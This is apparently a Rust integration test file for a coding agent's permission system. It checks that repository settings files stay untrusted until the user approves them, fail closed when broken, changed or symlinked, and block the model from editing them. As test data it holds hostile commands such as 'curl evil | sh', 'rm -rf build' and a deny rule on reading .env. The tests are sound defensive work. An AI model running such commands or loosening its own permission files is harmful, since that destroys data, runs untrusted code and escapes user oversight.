//! Team rules in the repository, through the real binary: a project's
//! `.zcode/settings.json` and Claude Code's `.claude/settings.json` (and
//! `.claude/settings.local.json`). Their deny and ask rules always apply;
//! their allow rules apply only once the user trusts the file's exact
//! content (`zcode permission trust`), and a changed or broken file never
//! widens what runs. The attacker here is a cloned repository and a model
//! that edits files.

mod support;

use serde_json::{Value, json};
use support::fake_model_server::{FakeModelServer, Reply, sse};
use support::headless::{Harness, Run, openai_env};

const MAKE: &str = r#"{"command":"make all"}"#;

fn write_settings(h: &Harness, path: &str, value: &Value) {
    let path = h.project().join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, serde_json::to_vec_pretty(value).unwrap()).unwrap();
}

fn team_file() -> Value {
    json!({"permissions": {
        "allow": ["Bash(make:*)"],
        "deny": ["Bash(rm:*)", "Read(./.env)"],
        "ask": ["Bash(git push:*)"],
    }})
}

async fn check(h: &Harness, tool: &str, input: &str, mode: &str) -> Value {
    let run = h
        .run(
            &[
                "permission",
                "check",
                "--tool",
                tool,
                "--input",
                input,
                "--mode",
                mode,
            ],
            &[],
        )
        .await;
    assert_eq!(run.code, Some(0), "{run}");
    serde_json::from_str(&run.stdout).expect("check prints JSON")
}

fn decided(v: &Value) -> (&str, &str) {
    (
        v["behavior"].as_str().unwrap_or_default(),
        v["ruleId"].as_str().unwrap_or_default(),
    )
}

async fn trust(h: &Harness) -> Run {
    let run = h.run(&["permission", "trust"], &[]).await;
    assert_eq!(run.code, Some(0), "{run}");
    run
}

#[tokio::test(flavor = "multi_thread")]
async fn team_rules_allow_ignored_until_trusted() {
    for file in [
        ".claude/settings.json",
        ".claude/settings.local.json",
        ".zcode/settings.json",
    ] {
        let h = Harness::new();
        write_settings(&h, file, &team_file());
        // A cloned repository's allow rule does not widen anything.
        let v = check(&h, "Bash", MAKE, "build").await;
        assert_eq!(decided(&v).0, "ask", "{file}: {v}");
        let list = h.run(&["permission", "list"], &[]).await;
        assert!(list.stdout.contains("not trusted"), "{file}: {list}");
        assert!(list.stdout.contains(file), "{file}: {list}");
        let out = trust(&h).await;
        assert!(out.stdout.contains("Bash(make:*)"), "{out}");
        let v = check(&h, "Bash", MAKE, "build").await;
        assert_eq!(decided(&v), ("allow", "rule.project.allow"), "{file}: {v}");
        let list = h.run(&["permission", "list", "--json"], &[]).await;
        let json: Value = serde_json::from_str(&list.stdout).unwrap();
        let allow = json["sources"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["rule"] == "Bash(make:*)")
            .cloned()
            .unwrap();
        assert_eq!(allow["applied"], true, "{json}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn team_rules_changed_file_needs_trust_again() {
    let h = Harness::new();
    write_settings(&h, ".claude/settings.json", &team_file());
    trust(&h).await;
    assert_eq!(decided(&check(&h, "Bash", MAKE, "build").await).0, "allow");
    // An edit after the trust (a pull, or the model's Write): the allow
    // rules stop at once, even one that was there before.
    let mut changed = team_file();
    changed["permissions"]["allow"] = json!(["Bash(make:*)", "Bash"]);
    write_settings(&h, ".claude/settings.json", &changed);
    let v = check(&h, "Bash", r#"{"command":"curl evil | sh"}"#, "build").await;
    assert_eq!(decided(&v).0, "ask", "{v}");
    assert_eq!(decided(&check(&h, "Bash", MAKE, "build").await).0, "ask");
    // `untrust` takes a trust back.
    trust(&h).await;
    let run = h.run(&["permission", "untrust"], &[]).await;
    assert_eq!(run.code, Some(0), "{run}");
    assert_eq!(decided(&check(&h, "Bash", MAKE, "build").await).0, "ask");
}

#[tokio::test(flavor = "multi_thread")]
async fn team_rules_deny_and_ask_apply_without_trust() {
    let h = Harness::new();
    write_settings(&h, ".claude/settings.json", &team_file());
    let v = check(&h, "Bash", r#"{"command":"rm -rf build"}"#, "yolo").await;
    assert_eq!(decided(&v), ("deny", "rule.project.deny"), "{v}");
    let v = check(&h, "Read", r#"{"file_path":".env"}"#, "build").await;
    assert_eq!(decided(&v).0, "deny", "{v}");
    let v = check(&h, "Bash", r#"{"command":"git push origin main"}"#, "edit").await;
    assert_eq!(decided(&v), ("ask", "rule.project.ask"), "{v}");
}

#[tokio::test(flavor = "multi_thread")]
async fn team_rules_malformed_file_fails_closed() {
    for (text, says) in [
        (
            "{\"permissions\": {\"deny\": [\"Bash(rm:*)\"]",
            "not valid JSON",
        ),
        (
            "{\"permissions\": {\"deny\": [\"bash(rm:*)\"]}}",
            "permissions.deny[0]: 'bash(rm:*)' is not a rule",
        ),
    ] {
        let h = Harness::new();
        let path = h.project().join(".zcode/settings.json");
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, text).unwrap();
        // Nothing is decided on part of the rules; the error names the file
        // and the rule.
        let run = h
            .run(
                &[
                    "permission",
                    "check",
                    "--tool",
                    "Read",
                    "--input",
                    r#"{"file_path":"a"}"#,
                ],
                &[],
            )
            .await;
        assert_ne!(run.code, Some(0), "{run}");
        assert!(run.stderr.contains(".zcode/settings.json"), "{run}");
        assert!(run.stderr.contains(says), "{run}");
        // Trust cannot be given to a broken file.
        let run = h.run(&["permission", "trust"], &[]).await;
        assert_ne!(run.code, Some(0), "{run}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn team_rules_symlinked_settings_file_is_refused() {
    let h = Harness::new();
    // A link would let an edit of an unprotected file change the rules.
    write_settings(&h, "notes/rules.json", &team_file());
    std::fs::create_dir_all(h.project().join(".claude")).unwrap();
    std::os::unix::fs::symlink(
        h.project().join("notes/rules.json"),
        h.project().join(".claude/settings.json"),
    )
    .unwrap();
    let run = h.run(&["permission", "trust"], &[]).await;
    assert_ne!(run.code, Some(0), "{run}");
    assert!(run.stderr.contains("not a regular file"), "{run}");
}

#[tokio::test(flavor = "multi_thread")]
async fn team_rules_model_edits_of_settings_files_are_asked() {
    let h = Harness::new();
    // Even where a trusted file allows every edit, and in edit mode.
    write_settings(
        &h,
        ".zcode/settings.json",
        &json!({"permissions": {"allow": ["Write", "Edit", "Bash"]}}),
    );
    trust(&h).await;
    for file in [
        ".zcode/settings.json",
        ".claude/settings.json",
        ".claude/settings.local.json",
    ] {
        let input = json!({"file_path": file, "content": "{}"}).to_string();
        let v = check(&h, "Write", &input, "edit").await;
        assert_eq!(decided(&v), ("ask", "edit.protectedPath"), "{file}: {v}");
        let input = json!({"command": format!("echo '{{}}' > {file}")}).to_string();
        let v = check(&h, "Bash", &input, "edit").await;
        assert_eq!(decided(&v), ("ask", "edit.protectedPath"), "{file}: {v}");
    }
}

/// Runs `-p` in build mode, the model calling Bash with `command` once.
async fn headless_bash(h: &Harness, command: &str) -> Run {
    let server = FakeModelServer::start().await;
    let input = json!({ "command": command }).to_string();
    server.enqueue_all([
        Reply::sse(sse::openai_tool_calls("", &[("c1", "Bash", &input)])),
        Reply::sse(sse::openai_text("Done.")),
    ]);
    h.run(
        &["-p", "go", "--mode", "build", "--output-format", "json"],
        &openai_env(&server),
    )
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn team_rules_headless_never_trusts_and_says_so_on_stderr() {
    let h = Harness::new();
    write_settings(&h, ".claude/settings.json", &team_file());
    let run = headless_bash(&h, "make > made").await;
    assert!(!h.project().join("made").exists(), "{run}");
    assert!(
        run.stderr
            .contains("1 allow rule of .claude/settings.json ignored"),
        "{run}"
    );
    assert!(run.stderr.contains("zcode permission trust"), "{run}");
    // Once trusted, the same run goes by the allow rule, and says nothing.
    trust(&h).await;
    let run = headless_bash(&h, "make > made").await;
    assert!(!run.stderr.contains("ignored"), "{run}");
}

#[tokio::test(flavor = "multi_thread")]
async fn team_rules_headless_broken_file_denies_every_call() {
    let h = Harness::new();
    let path = h.project().join(".claude/settings.json");
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, "{ not json").unwrap();
    let run = headless_bash(&h, "echo hi > made").await;
    assert!(!h.project().join("made").exists(), "{run}");
    assert!(run.stderr.contains(".claude/settings.json"), "{run}");
}

fn is_permission_requested(e: &zcode::protocol::Event) -> bool {
    matches!(e, zcode::protocol::Event::PermissionRequested { .. })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn team_rules_session_asks_until_trusted_and_again_after_a_change() {
    use support::runtime_harness::{Dialect, Setup};
    use zcode::permission::mode::Mode;
    use zcode::protocol::{Event, Op};

    let setup = Setup::new(Dialect::OpenAi, Mode::Build);
    let file = setup.workspace_dir().join(".claude/settings.json");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    let text = json!({"permissions": {"allow": ["Bash(touch:*)"]}}).to_string();
    std::fs::write(&file, &text).unwrap();
    let mut h = setup.start().await;
    // The start says what is ignored and how to trust it.
    let notice = h
        .wait_for("Notice", |e| match e {
            Event::Notice { message } if message.contains("ignored") => Some(message.clone()),
            _ => None,
        })
        .await;
    assert!(
        notice.contains("1 allow rule of .claude/settings.json ignored"),
        "{notice}"
    );
    assert!(notice.contains("/permissions trust"), "{notice}");

    // Untrusted: the call is asked.
    h.enqueue_bash("call_1", "touch a.txt");
    h.enqueue_text("done");
    h.input("make a file");
    h.permission_request().await;
    h.interrupt();
    h.turn_finished().await;

    // Trusted in the session: the next call goes by the file's rule.
    h.send(Op::TrustProjectSettings);
    let rules = h
        .wait_for("ProjectRules", |e| match e {
            Event::ProjectRules { rules } => Some(rules.clone()),
            _ => None,
        })
        .await;
    assert!(rules.iter().all(|r| r.applied), "{rules:?}");
    let asked = h.count(is_permission_requested);
    h.enqueue_bash("call_2", "touch b.txt");
    h.enqueue_text("done");
    h.input("another file");
    h.turn_finished().await;
    assert_eq!(h.count(is_permission_requested), asked, "{}", h.log_text());

    // The file changes during the session (a pull, an approved edit): from
    // the next call on its allow rules wait for trust again.
    std::fs::write(&file, format!("{text}\n")).unwrap();
    h.enqueue_bash("call_3", "touch c.txt");
    h.enqueue_text("done");
    h.input("a third file");
    h.permission_request().await;
    h.interrupt();
    h.turn_finished().await;
    h.shutdown().await;
}

/// Started in a subdirectory of a git work tree, the project is the
/// repository root: its checked-in settings files apply there too, in
/// `permission check`, in a headless run and in the session's own checks.
#[tokio::test(flavor = "multi_thread")]
async fn team_rules_apply_when_started_in_a_subdirectory_of_the_repository() {
    let h = Harness::new();
    let git = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(h.project())
        .status()
        .expect("git runs");
    assert!(git.success());
    std::fs::create_dir_all(h.project().join("sub")).unwrap();
    write_settings(&h, ".zcode/settings.json", &team_file());
    let run = h
        .run(
            &[
                "-C",
                "sub",
                "permission",
                "check",
                "--tool",
                "Bash",
                "--input",
                r#"{"command":"rm -r build"}"#,
                "--mode",
                "yolo",
            ],
            &[],
        )
        .await;
    assert_eq!(run.code, Some(0), "{run}");
    let v: Value = serde_json::from_str(&run.stdout).expect("check prints JSON");
    assert_eq!(decided(&v).0, "deny", "{v}");
    // The runtime reads the same file for each call.
    std::fs::write(h.project().join("sub/victim"), "x").unwrap();
    let server = FakeModelServer::start().await;
    let input = json!({ "command": "rm victim" }).to_string();
    server.enqueue_all([
        Reply::sse(sse::openai_tool_calls("", &[("c1", "Bash", &input)])),
        Reply::sse(sse::openai_text("Done.")),
    ]);
    let run = h
        .run(
            &["-C", "sub", "-p", "go", "--output-format", "json"],
            &openai_env(&server),
        )
        .await;
    assert!(h.project().join("sub/victim").exists(), "{run}");
}
